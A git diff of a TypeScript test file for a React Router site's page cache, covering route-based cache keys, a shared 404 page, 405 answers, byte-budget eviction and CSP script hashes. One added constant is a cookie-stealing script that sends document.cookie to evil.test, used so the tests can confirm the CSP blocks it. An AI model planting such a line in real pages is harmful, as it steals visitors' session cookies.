@@ -1,39 +1,62 @@
 import { createHash } from 'node:crypto';
 import { brotliDecompressSync, gunzipSync } from 'node:zlib';
+import { matchRoutes } from 'react-router';
 import { describe, expect, it } from 'vitest';
+import { canonicalPageState } from '#app/ssr/canonical-page-state.ts';
 import { securityHeaderList } from '../http/security-headers.ts';
+import { createPageResolver, NOT_FOUND_PATH, type ManifestRoute } from './page-address.ts';
 import {
   createPageCache,
   PAGE_CACHE_CONTROL,
-  pageKeyOf,
   type PageCacheOptions,
   type PageRequest,
 } from './page-cache.ts';
 
 const script = 'window.ready = true;';
 const scriptHash = `'sha256-${createHash('sha256').update(script).digest('base64')}'`;
+const injected = 'fetch("https://evil.test/?" + document.cookie)';
+const injectedHash = `'sha256-${createHash('sha256').update(injected).digest('base64')}'`;
 
-/** A stand-in for React Router's handler: a page naming its URL, as the renders saw them. */
+/** The shape of the build's route manifest (`ServerBuild['routes']`), for a small site. */
+const routes = [
+  { id: 'root', path: '' },
+  { id: 'routes/home', parentId: 'root', index: true },
+  ...['pricing', 'imprint', 'support', 'download', 'privacy', 'checkout-success', 'trial'].map(
+    (path) => ({ id: `routes/${path}`, parentId: 'root', path }),
+  ),
+  { id: 'routes/toolbox', parentId: 'root', path: 'features/toolbox-commands' },
+  { id: 'routes/blog-post', parentId: 'root', path: 'blog/:slug' },
+  { id: 'routes/not-found', parentId: 'root', path: '*' },
+] satisfies ManifestRoute[];
+const manifest = Object.fromEntries(routes.map((route) => [route.id, route]));
+const resolve = createPageResolver(manifest, canonicalPageState);
+
+/**
+ * A stand-in for React Router's handler: a page naming its URL, as the renders saw them, with a
+ * script of ours (marked) and one that reached the content some other way (not marked).
+ */
 function pages(overrides: Partial<PageCacheOptions> = {}) {
   const rendered: string[] = [];
   let release = '3.2.2';
   const cache = createPageCache({
     origin: 'https://orgsmith.test',
+    resolve,
     securityHeaders: (inline) =>
       securityHeaderList({ connectOrigins: [], analytics: false, development: false }, inline),
-    async render(request) {
+    async render(request, mark) {
       const url = new URL(request.url);
       rendered.push(`${url.pathname}${url.search}`);
+      const ours = `<script nonce="${mark}">${script}</script>`;
       if (url.pathname === '/checkout-success') {
-        return new Response(`<p>${url.search}</p><script>${script}</script>`, {
+        return new Response(`<p>${url.search}</p>${ours}`, {
           headers: { 'Content-Type': 'text/html', 'Cache-Control': 'no-store' },
         });
       }
       if (url.pathname === '/trial') {
         return new Response(null, { status: 302, headers: { Location: `/?${url.search}` } });
       }
-      const status = url.pathname === '/missing' ? 404 : 200;
-      const body = `<html><body><h1>${url.pathname}${url.search} ${release}</h1>${'<p>text</p>'.repeat(200)}<script>${script}</script></body></html>`;
+      const status = url.pathname === NOT_FOUND_PATH ? 404 : 200;
+      const body = `<html><body><h1>${url.pathname}${url.search} ${release}</h1>${'<p>text</p>'.repeat(200)}<script>${injected}</script>${ours}</body></html>`;
       return new Response(body, {
         status,
         headers: { 'Content-Type': 'text/html; charset=utf-8' },
@@ -71,23 +94,76 @@ async function get(
   const pageRequest = request(path, extra);
   return (
     cache.lookup(pageRequest) ??
-    (await cache.respond(pageRequest, new Request(`https://orgsmith.test${path}`)))
+    (await cache.respond(
+      pageRequest,
+      new Request(`https://orgsmith.test${path}`, { method: pageRequest.method }),
+    ))
   );
 }
 
-describe('pageKeyOf', () => {
-  it('keeps the path and the page-state parameters in a fixed order, nothing else', () => {
-    expect(pageKeyOf('/pricing', '')).toBe('/pricing');
-    expect(pageKeyOf('/pricing', 'utm_source=x&currency=EUR&size=10')).toBe(
-      '/pricing?size=10&currency=EUR',
-    );
-    expect(pageKeyOf('/', 'modal=contact&fbclid=1')).toBe('/?modal=contact');
-    expect(pageKeyOf('/imprint', 'utm_source=x')).toBe('/imprint');
+describe('createPageResolver', () => {
+  const keyOf = (path: string) => {
+    const [pathname = path, query = ''] = path.split('?');
+    return resolve(pathname, query);
+  };
+
+  it('keys a page by its route’s path and the page state it reads, nothing else', () => {
+    expect(keyOf('/pricing')).toEqual({ key: '/pricing', kind: 'route' });
+    expect(keyOf('/')).toEqual({ key: '/', kind: 'route' });
+    expect(keyOf('/pricing?utm_source=x&currency=EUR&size=10')).toEqual({
+      key: '/pricing?size=10&currency=EUR',
+      kind: 'variant',
+    });
+    expect(keyOf('/?modal=contact&fbclid=1')).toEqual({ key: '/?modal=contact', kind: 'variant' });
+    expect(keyOf('/imprint?utm_source=x&size=10')).toEqual({ key: '/imprint', kind: 'route' });
+  });
+
+  it('gives other spellings of a route and invalid values the canonical page', () => {
+    for (const path of ['/PRICING', '/Pricing/', '/pricing?size=7000&currency=XYZ']) {
+      expect(keyOf(path), path).toEqual({ key: '/pricing', kind: 'route' });
+    }
+    expect(keyOf('/Features/TOOLBOX-commands/?modal=7')?.key).toBe('/features/toolbox-commands');
+    expect(keyOf('/?modal=7')).toEqual({ key: '/', kind: 'route' });
+    expect(keyOf('/pricing?period=YEARLY&size=010')?.key).toBe('/pricing?size=10&period=yearly');
+  });
+
+  it('sends every path only the catch-all route matches to the one 404 page', () => {
+    for (const path of ['/wp-admin/x1.php', '/pricing/extra', '//pricing', '/features', '/404']) {
+      expect(keyOf(path), path).toEqual({ key: NOT_FOUND_PATH, kind: 'not-found' });
+    }
+    expect(keyOf('/no-such-page?modal=contact')).toEqual({ key: '/404', kind: 'not-found' });
+  });
+
+  it('keys pages of a route with parameters by the path as asked, within the budget', () => {
+    expect(keyOf('/blog/hello?utm_source=x')).toEqual({ key: '/blog/hello', kind: 'variant' });
+  });
+
+  it('agrees with React Router on the route of every path', () => {
+    const tree = [
+      {
+        path: '',
+        children: routes.flatMap((route) =>
+          route.id === 'root'
+            ? []
+            : [route.path ? { id: route.id, path: route.path } : { id: route.id, index: true }],
+        ),
+      },
+    ];
+    const paths = ['/', '//', '/PRICING', '/pricing/', '/pricing//', '//pricing', '/pricing/x'];
+    paths.push('/Features/Toolbox-Commands', '/features/toolbox-commands/', '/features');
+    paths.push('/blog/hello', '/blog/', '/blog/a/b', '/404', '/wp-admin/x.php', '/trial.');
+    const routeOf = (path: string) => {
+      const leaf = matchRoutes(tree, path)?.at(-1)?.route;
+      if (leaf?.path === '*') return NOT_FOUND_PATH;
+      if (!leaf?.path) return '/';
+      return leaf.path.includes(':') ? path : `/${leaf.path}`;
+    };
+    for (const path of paths) expect(resolve(path, '')?.key, path).toBe(routeOf(path));
   });
 
   it('never shares route data or route manifests', () => {
-    expect(pageKeyOf('/download.data', '')).toBeUndefined();
-    expect(pageKeyOf('/__manifest', 'p=%2F')).toBeUndefined();
+    expect(resolve('/download.data', '')).toBeUndefined();
+    expect(resolve('/__manifest', 'p=%2F')).toBeUndefined();
   });
 });
 
@@ -95,9 +171,10 @@ describe('createPageCache', () => {
   it('renders a page once, also for concurrent visitors, and serves the same bytes to all', async () => {
     const { cache, rendered } = pages();
     const [first, second] = await Promise.all([get(cache, '/imprint'), get(cache, '/imprint')]);
-    const third = await get(cache, '/imprint?utm_source=newsletter');
+    const junk = ['/imprint?utm_source=newsletter', '/Imprint/', '/IMPRINT?modal=7&size=9'];
+    const others = await Promise.all(junk.map((path) => get(cache, path)));
     expect(rendered).toEqual(['/imprint']);
-    const bodies = await Promise.all([first, second, third].map((res) => res.text()));
+    const bodies = await Promise.all([first, second, ...others].map((res) => res.text()));
     expect(new Set(bodies).size).toBe(1);
     expect(first.headers.get('cache-control')).toBe(PAGE_CACHE_CONTROL);
     expect(first.headers.get('vary')).toBe('Accept-Encoding');
@@ -111,7 +188,10 @@ describe('createPageCache', () => {
     expect(await quote.text()).toContain('<h1>/pricing?size=10&currency=EUR');
     expect(rendered).toEqual(['/pricing?size=10&currency=EUR']);
     await get(cache, '/pricing');
+    await get(cache, '/pricing?currency=XYZ&size=7000&utm_campaign=spring');
+    await get(cache, '/PRICING?currency=eur&size=010');
     expect(rendered).toEqual(['/pricing?size=10&currency=EUR', '/pricing']);
+    expect(cache.size).toBe(2);
   });
 
   it('answers brotli, gzip or identity with a strong ETag each, and 304 for any of them', async () => {
@@ -150,22 +230,44 @@ describe('createPageCache', () => {
     expect(await head.text()).toBe('');
   });
 
-  it('lists the hashes of the inline scripts in the CSP, and adds HSTS over HTTPS', async () => {
+  it('lists the hashes of our inline scripts in the CSP, and adds HSTS over HTTPS', async () => {
     const { cache } = pages();
     const page = await get(cache, '/');
     const csp = page.headers.get('content-security-policy') ?? '';
-    expect(csp).toContain(`script-src 'self' ${scriptHash}`);
+    expect(csp).toContain(`script-src 'self' ${scriptHash};`);
     expect(csp).not.toContain('unsafe-inline');
+    // A script that reached the content some other way stays blocked, and the marks are gone.
+    const html = await page.text();
+    expect(html).toContain(`<script>${injected}</script><script>${script}</script>`);
+    expect(csp).not.toContain(injectedHash);
     expect(page.headers.get('strict-transport-security')).toBeNull();
     const secure = await get(cache, '/', { https: true });
     expect(secure.headers.get('strict-transport-security')).toContain('max-age=');
   });
 
-  it('keeps the 404 page too, with its status', async () => {
+  it('answers every unknown path with the one 404 page, rendered once', async () => {
     const { cache, rendered } = pages();
-    expect((await get(cache, '/missing')).status).toBe(404);
-    expect((await get(cache, '/missing')).status).toBe(404);
-    expect(rendered).toEqual(['/missing']);
+    const paths = ['/missing', '/wp-admin/x1.php?a=1', '/pricing/extra', '/404?modal=contact'];
+    const answers = await Promise.all(paths.map((path) => get(cache, path)));
+    for (const answer of answers) expect(answer.status).toBe(404);
+    expect(new Set(answers.map((answer) => answer.headers.get('etag'))).size).toBe(1);
+    expect(new Set(await Promise.all(answers.map((answer) => answer.text()))).size).toBe(1);
+    expect(rendered).toEqual([NOT_FOUND_PATH]);
+    expect(cache.size).toBe(1);
+    // The store never answers for an unknown path first: an API route or a file may take it.
+    expect(cache.lookup(request('/api/releases'))).toBeUndefined();
+    expect(cache.lookup(request('/missing'))).toBeUndefined();
+  });
+
+  it('answers other methods on documents with 405, rendering nothing', async () => {
+    const { cache, rendered } = pages();
+    for (const method of ['OPTIONS', 'PROPFIND', 'POST']) {
+      const answer = await get(cache, '/wp-admin/x.php', { method });
+      expect(answer.status).toBe(405);
+      expect(answer.headers.get('allow')).toBe('GET, HEAD');
+    }
+    expect((await get(cache, '/pricing', { method: 'OPTIONS' })).status).toBe(405);
+    expect(rendered).toEqual([]);
   });
 
   it('renders pages that are not shareable from the full URL every time, with their CSP', async () => {
@@ -213,14 +315,50 @@ describe('createPageCache', () => {
     expect(state.rendered.filter((url) => url === '/')).toHaveLength(2);
   });
 
-  it('keeps at most maxEntries pages, dropping the oldest', async () => {
-    const { cache } = pages({ maxEntries: 2 });
-    await get(cache, '/a');
-    await get(cache, '/b');
-    await get(cache, '/c');
-    expect(cache.size).toBe(2);
-    expect(cache.lookup(request('/a'))).toBeUndefined();
-    expect(cache.lookup(request('/c'))).toBeDefined();
+  it('keeps variants within the byte budget, the least recently used going first', async () => {
+    const probe = pages();
+    await get(probe.cache, '/pricing?size=10');
+    const variantBytes = probe.cache.variantBytes;
+    expect(variantBytes).toBeGreaterThan(2_000);
+
+    const { cache, rendered } = pages({ maxVariantBytes: Math.floor(variantBytes * 2.5) });
+    await get(cache, '/pricing?size=10');
+    await get(cache, '/pricing?size=11');
+    await get(cache, '/pricing?size=10');
+    await get(cache, '/pricing?size=12');
+    expect(cache.variantBytes).toBeLessThanOrEqual(variantBytes * 2.5);
+    expect(cache.lookup(request('/pricing?size=11'))).toBeUndefined();
+    expect(cache.lookup(request('/pricing?size=10'))).toBeDefined();
+    expect(cache.lookup(request('/pricing?size=12'))).toBeDefined();
+    expect(rendered).toEqual(['/pricing?size=10', '/pricing?size=11', '/pricing?size=12']);
+  });
+
+  it('never evicts a route’s own page or the 404 page, however many variants come', async () => {
+    const { cache, rendered } = pages({ maxVariantBytes: 10_000 });
+    for (const path of ['/', '/pricing', '/imprint', '/missing']) await get(cache, path);
+    for (let size = 3; size <= 25; size++) await get(cache, `/pricing?size=${size}&modal=trial`);
+    expect(cache.variantBytes).toBeLessThanOrEqual(10_000);
+    for (const path of ['/', '/pricing', '/imprint']) {
+      expect(cache.lookup(request(path)), path).toBeDefined();
+    }
+    await get(cache, '/elsewhere');
+    expect(rendered.filter((url) => !url.includes('?'))).toEqual([
+      '/',
+      '/pricing',
+      '/imprint',
+      NOT_FOUND_PATH,
+    ]);
+  });
+
+  it('reports every page it stores', async () => {
+    const reports: unknown[] = [];
+    const { cache } = pages({ onStore: (page) => reports.push(page) });
+    await get(cache, '/pricing?size=10');
+    await get(cache, '/nowhere');
+    expect(reports).toEqual([
+      expect.objectContaining({ key: '/pricing?size=10', status: 200, pages: 1 }),
+      expect.objectContaining({ key: NOT_FOUND_PATH, status: 404, pages: 2 }),
+    ]);
   });
 
   it('renders an old page again in the background and serves the old copy meanwhile', async () => {
